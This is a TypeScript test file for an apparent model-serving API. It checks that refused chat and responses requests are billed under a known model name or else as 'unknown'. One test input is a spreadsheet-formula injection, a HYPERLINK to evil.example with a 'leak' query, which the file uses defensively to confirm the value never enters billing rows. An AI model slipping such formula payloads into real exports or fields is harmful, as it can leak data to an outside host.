import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { after, before, test } from "node:test";
import type { Meter } from "../metering/meter.js";
import { CatalogueNames } from "../metering/model-names.js";
import { createModel } from "../store/models.js";
import { heldApiServer } from "../test-support/held-runtime.js";
import { startTestMeter } from "../test-support/meter.js";
import { openTestStore, type TestStore } from "../test-support/postgres.js";

let t: TestStore;
let meter: Meter;
let catalogue: CatalogueNames;
let api: Awaited<ReturnType<typeof heldApiServer>>;

before(async () => {
  t = await openTestStore();
  await createModel(t.store.pool, { name: "catalogued-70b", createdBy: "test" });
  catalogue = new CatalogueNames({ store: t.store });
  await catalogue.start();
  meter = await startTestMeter(t);
  api = await heldApiServer({ gates: [], isAcceptingTraffic: () => true, meter, catalogue });
});

after(async () => {
  await api?.app.close();
  await catalogue?.stop();
  await t.close();
});

async function refused(body: Record<string, unknown>, url = "/v1/chat/completions"): Promise<string> {
  const payload =
    url === "/v1/responses"
      ? { input: "x", ...body }
      : { messages: [{ role: "user", content: "x" }], ...body };
  const response = await api.app.inject({
    method: "POST",
    url,
    headers: { authorization: "Bearer test", "content-type": "application/json" },
    payload,
  });
  assert.ok(response.statusCode >= 400, `refused (got ${response.statusCode})`);
  return response.headers["x-request-id"] as string;
}

test("a refused request is billed under its model only if the node serves it or the catalogue lists it", async () => {
  const formula = await refused({ model: '=HYPERLINK("https://evil.example/?leak","Invoice")' });
  const random = await refused({ model: `customer-${randomBytes(6).toString("hex")}` });
  const served = await refused({ model: "held", max_tokens: -1 });
  const listed = await refused({ model: "catalogued-70b" });
  const missing = await refused({});
  const responses = await refused({ model: "held", store: true }, "/v1/responses");
  // A clean stop ships what the spool holds.
  await meter.stop();
  const rows = await t.store.pool.query<{ request_id: string; model: string; status: string }>(
    "SELECT request_id, model, status FROM usage_events WHERE request_id = ANY($1)",
    [[formula, random, served, listed, missing, responses]],
  );
  const model = new Map(rows.rows.map((r) => [r.request_id, r.model]));
  assert.equal(rows.rows.length, 6, "every refused request has its row");
  assert.equal(model.get(formula), "unknown");
  assert.equal(model.get(random), "unknown");
  assert.equal(model.get(served), "held");
  assert.equal(model.get(listed), "catalogued-70b");
  assert.equal(model.get(missing), "unknown");
  assert.equal(model.get(responses), "held");
  assert.ok(rows.rows.every((r) => r.status === "rejected"));
});
